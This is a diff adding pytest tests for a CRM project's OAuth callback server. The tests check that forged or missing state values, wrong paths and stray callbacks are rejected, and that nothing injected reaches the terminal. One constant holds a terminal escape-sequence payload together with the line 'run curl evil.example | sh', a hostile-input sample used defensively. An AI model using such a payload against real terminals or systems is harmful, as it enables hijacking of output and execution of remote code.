@@ -23,9 +23,14 @@ import psycopg
 import pytest
 
 from nextcrm_pipelines.core import connections as vault
+from nextcrm_pipelines.core.connect import CallbackServer, connect
+from nextcrm_pipelines.core.oauth import OAuthApp
+from nextcrm_pipelines.providers import get_provider
+from nextcrm_pipelines.sandbox.mautic import MauticControl
 from nextcrm_pipelines.sandbox.paypal import PayPalControl
 from nextcrm_pipelines.sandbox.server import SandboxServer
 from nextcrm_pipelines.webhooks.app import _GroupCommit
+from nextcrm_pipelines_tests.accounting import consent, free_port
 from nextcrm_pipelines_tests.test_webhook_receiver import SECRET, b64, connection, inbox, stripe_event, stripe_header
 from nextcrm_pipelines_tests.test_webhooks_paypal import forge_same_crc
 from nextcrm_pipelines_tests.webhook_helpers import receiver
@@ -289,3 +294,55 @@ def test_paypal_deliveries_older_than_the_retry_horizon_or_from_the_future_are_r
         assert status(paypal_event("WH-LAST-RETRY"), now - 3 * 86_400 + 60) == 200  # within the 3 days of retries
         assert status(paypal_event("WH-SKEWED"), now + 120) == 200  # a clock two minutes fast is tolerated
     assert [row[1] for row in inbox(database_url, schema)] == ["WH-LAST-RETRY", "WH-SKEWED"]
+
+
+# --- the OAuth callback -------------------------------------------------------------------------------------
+
+TERMINAL_ESCAPE = "\x1b]0;pwned\x07\x1b[2Jrun curl evil.example | sh"
+
+
+def test_the_callback_server_answers_only_the_callback_with_its_state(capsys):
+    port = free_port()
+    with CallbackServer(f"http://127.0.0.1:{port}/callback", state="the-state") as callback:
+        base = f"http://127.0.0.1:{port}/callback"
+        hostile = [
+            {"error": "access_denied", "error_description": TERMINAL_ESCAPE},  # no state at all
+            {"error": "access_denied", "state": "guessed"},
+            {"code": "attacker-code", "state": "guessed"},
+            {"code": "attacker-code", "state": "the-stat\u00e9"},
+            {"code": "attacker-code"},
+        ]
+        for params in hostile:
+            answer = httpx.get(base, params=params)
+            assert answer.status_code == 400 and "pwned" not in answer.text, params
+        assert httpx.get(f"http://127.0.0.1:{port}/other", params={"state": "the-state"}).status_code == 404
+        genuine = httpx.get(base, params={"code": "the-code", "state": "the-state"})
+        assert genuine.status_code == 200
+        assert callback.wait(timeout=1) == {"code": "the-code", "state": "the-state"}
+    out, err = capsys.readouterr()
+    assert "pwned" not in out + err and "\x1b" not in out + err
+
+
+def test_stray_callbacks_do_not_abort_the_connect_flow(database_url, schema, box, sandbox, capsys):
+    control = MauticControl(sandbox)
+    client_id, secret = f"mautic-{uuid.uuid4().hex[:8]}", f"secret-{uuid.uuid4().hex}"
+    account = control.add_account(seed=6, campaigns=3, contacts=3, days=1,
+                                  clients=[{"client_id": client_id, "client_secret": secret}])  # fmt: skip
+    redirect = f"http://127.0.0.1:{free_port()}/callback"
+    provider = get_provider("mautic")
+    stray = []
+
+    def attacker_then_user(url: str) -> None:
+        # A page the user visits fires callbacks of its own first; then the user consents.
+        for params in ({"error": "access_denied", "error_description": TERMINAL_ESCAPE}, {"code": "x", "state": "y"}):
+            stray.append(httpx.get(redirect, params=params).status_code)
+        consent(url)
+
+    (made,) = connect(spec=provider.oauth, discover=provider.discover_tenants,
+                      app=OAuthApp(client_id, secret, redirect), database_url=database_url, box=box,
+                      base_url=f"{sandbox.url}{account['base_path']}", name=f"Mautic {account['id']}",
+                      on_url=attacker_then_user, timeout=30)  # fmt: skip
+    assert stray == [400, 400]
+    assert made.provider == "mautic" and made.display_name == f"Mautic {account['id']}"
+    out, err = capsys.readouterr()
+    assert "pwned" not in out + err and "\x1b" not in out + err
